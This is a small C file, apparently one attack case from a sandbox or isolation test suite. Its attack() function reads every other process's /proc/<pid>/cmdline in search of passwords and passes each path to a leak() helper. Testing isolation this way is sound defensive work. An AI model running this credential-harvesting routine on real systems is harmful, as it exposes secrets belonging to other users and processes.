/* Looks for passwords in all command lines. */
#include "../attack.h"
#include <dirent.h>
static void attack(void)
{
	DIR *folder = opendir("/proc");
	for (struct dirent *entry; folder && (entry = readdir(folder));) {
		char path[512];
		snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
		if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
			leak(path);
	}
}
